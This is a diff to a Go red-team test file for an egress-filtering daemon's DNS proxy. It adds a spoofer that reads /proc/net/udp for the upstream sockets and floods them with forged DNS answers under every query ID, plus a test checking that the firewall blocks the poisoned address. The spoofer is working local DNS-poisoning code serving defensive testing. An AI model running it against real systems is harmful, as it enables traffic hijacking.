@@ -6,12 +6,14 @@ import (
 	"fmt"
 	"net"
 	"net/netip"
+	"os"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/egressd/egressd/internal/dnstest"
 	"github.com/miekg/dns"
+	"golang.org/x/sys/unix"
 )
 
 // Red team of what the DNS proxy sends to its resolvers
@@ -82,5 +84,145 @@ dns_proxy_port: 153
 		if fq.Question[0].Name != "www.api.example.test." {
 			t.Errorf("%s: the upstream got the client's letter case %q: bits of the client's choosing", network, fq.Question[0].Name)
 		}
+	}
+}
+
+func init() { childModes["dns-spoof"] = childDNSSpoof }
+
+// procAddr is an address of /proc/net/udp or udp6 ("0100007F:0035"): each
+// 32-bit word in host (little-endian) order.
+func procAddr(s string) (netip.AddrPort, bool) {
+	h, p, ok := strings.Cut(s, ":")
+	if !ok || (len(h) != 8 && len(h) != 32) {
+		return netip.AddrPort{}, false
+	}
+	var b []byte
+	for i := 0; i < len(h); i += 8 {
+		var w uint32
+		fmt.Sscanf(h[i:i+8], "%X", &w) //nolint:errcheck
+		b = append(b, byte(w), byte(w>>8), byte(w>>16), byte(w>>24))
+	}
+	var port uint16
+	fmt.Sscanf(p, "%X", &port) //nolint:errcheck
+	a, _ := netip.AddrFromSlice(b)
+	return netip.AddrPortFrom(a.Unmap(), port), true
+}
+
+// childDNSSpoof: for ATTACK_SECONDS, reads /proc/net/udp and udp6 (every
+// user may) for the sockets connected to the resolver addr, and to each
+// sends a forged answer under every query ID — from addr itself, bound
+// with IP_FREEBIND (port 53: only where ip_unprivileged_port_start allows
+// it, or with CAP_NET_BIND_SERVICE) — for ATTACK_NAME, A ATTACK_ADDR.
+func childDNSSpoof(addr string) int {
+	up := netip.MustParseAddrPort(addr)
+	secs, _ := time.ParseDuration(os.Getenv("ATTACK_SECONDS"))
+	res := map[string]any{}
+	fam, lvl, opt := unix.AF_INET, unix.IPPROTO_IP, unix.IP_FREEBIND
+	if up.Addr().Is6() {
+		fam, lvl, opt = unix.AF_INET6, unix.IPPROTO_IPV6, unix.IPV6_FREEBIND
+	}
+	fd, err := unix.Socket(fam, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		res["socket"] = errName(err)
+		report(res)
+		return otherError
+	}
+	defer unix.Close(fd)
+	unix.SetsockoptInt(fd, lvl, opt, 1) //nolint:errcheck
+	if err := unix.Bind(fd, sockaddr(up)); err != nil {
+		res["bind"] = errName(err)
+		report(res)
+		return otherError
+	}
+	res["bind"] = "ok"
+	r := new(dns.Msg)
+	r.SetQuestion(os.Getenv("ATTACK_NAME"), dns.TypeA)
+	r.Response, r.RecursionAvailable = true, true
+	r.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: os.Getenv("ATTACK_NAME"), Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 300},
+		A: net.ParseIP(os.Getenv("ATTACK_ADDR"))}}
+	pkt, _ := r.Pack()
+	sent, ports := 0, map[netip.AddrPort]bool{}
+	for end := time.Now().Add(secs); time.Now().Before(end); {
+		for _, file := range []string{"/proc/net/udp", "/proc/net/udp6"} {
+			b, _ := os.ReadFile(file)
+			for _, l := range strings.Split(string(b), "\n")[1:] {
+				f := strings.Fields(l)
+				if len(f) < 3 {
+					continue
+				}
+				local, ok1 := procAddr(f[1])
+				remote, ok2 := procAddr(f[2])
+				if !ok1 || !ok2 || remote != up {
+					continue
+				}
+				ports[local] = true
+				for id := 0; id < 65536; id++ {
+					pkt[0], pkt[1] = byte(id>>8), byte(id)
+					if err := unix.Sendto(fd, pkt, 0, sockaddr(local)); err == nil {
+						sent++
+					} else {
+						res["error"] = errName(err)
+						break
+					}
+				}
+			}
+		}
+		time.Sleep(time.Millisecond)
+	}
+	res["sent"], res["sockets"] = sent, len(ports)
+	report(res)
+	return 0
+}
+
+// ---------------------------------------------------------------------------
+// D11. Forged answers from the host itself. egressd's upstream sockets
+// (the proxy's, reused for up to 64 queries, and its own resolver's) are
+// listed, with the resolver they are connected to, in /proc/net/udp, which
+// every user reads. A local process that may bind port 53 (a service with
+// CAP_NET_BIND_SERVICE, or any user where ip_unprivileged_port_start is
+// lowered, as in many containers) binds the resolver's address with
+// IP_FREEBIND and sends each such socket an answer under every query ID —
+// 65,536 datagrams, local, in a fraction of the resolver's round trip. No
+// protected user can send from a foreign address (the restricted chain),
+// but this one is not protected: its forged answer for an allowlisted name
+// puts an address of its choosing in a protected user's kernel set, which
+// the protected service (the accomplice) then reaches. IPv4 refuses to
+// route a FREEBIND source that is not local (ENETUNREACH); IPv6 did not.
+// The input chain drops a DNS answer that arrives over loopback from an
+// address that is not local.
+func TestRedteamDNSLocalForgedAnswers(t *testing.T) {
+	for _, c := range []struct{ family, resolver, peer string }{
+		{"IPv4", "203.0.113.53:53", "203.0.113.53"},
+		{"IPv6", "[2001:db8:53::1]:53", "2001:db8:53::1"},
+	} {
+		t.Run(c.family, func(t *testing.T) {
+			w := newWorld(t)
+			w.must(w.ns.Sysctl("net/ipv4/ip_unprivileged_port_start", "0"))
+			p := w.addPeer(c.peer)
+			up, err := dnstest.ListenIn(p.Do, c.resolver)
+			w.must(err)
+			t.Cleanup(up.Close)
+			up.Set("api.example.test", dnstest.Record{A: addrs("192.0.2.10"), TTL: 1, Delay: 300 * time.Millisecond})
+			w.write("egressd.yaml", fmt.Sprintf("resolvers: [%q]\nmin_ttl: 1s\nlinger: 2s\ndns_proxy_port: 153\n", c.resolver))
+			w.write("allow.d/billing.yaml", fmt.Sprintf("user: %d\ndns: proxy\nallow:\n  - api.example.test:443\n", uidA))
+			w.start()
+			w.expect(uidA, "tcp", "198.51.100.20:443", okRefused)
+			sp := w.startChild(uidNone, "dns-spoof", c.resolver, "ATTACK_SECONDS=6s", "ATTACK_NAME=api.example.test.", "ATTACK_ADDR=198.51.100.20")
+			forged := 0
+			for end := time.Now().Add(5 * time.Second); time.Now().Before(end); {
+				m, _, err := w.exchangeAs(uidA, "udp", 0, "192.0.2.53:53", question("api.example.test.", dns.TypeA))
+				if a, ok := firstAddr(m); err == nil && ok && a == netip.MustParseAddr("198.51.100.20") {
+					forged++
+				}
+			}
+			res := sp.next(t, 10*time.Second)
+			sp.wait(t)
+			connected := w.connect(uidA, "tcp", "198.51.100.20:443") == okConnected
+			t.Logf("spoofer: bind %v, %v datagrams to %v socket(s) (last error %v); billing got the forged address %d times; connects to it: %v",
+				res["bind"], res["sent"], res["sockets"], res["error"], forged, connected)
+			if forged > 0 || connected {
+				t.Errorf("a local user's forged answers put 198.51.100.20 in billing's kernel set (answers %d, connect %v)", forged, connected)
+			}
+		})
 	}
 }
